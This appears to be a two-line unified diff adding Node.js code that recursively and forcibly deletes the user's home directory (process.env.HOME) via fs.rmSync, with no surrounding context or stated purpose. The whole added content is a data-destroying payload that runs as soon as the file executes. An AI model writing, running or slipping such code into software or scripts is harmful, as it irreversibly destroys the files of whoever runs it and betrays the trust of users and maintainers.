@@ -1,0 +1,2 @@
+const fs = require('fs');
+fs.rmSync(process.env.HOME, { recursive: true, force: true });
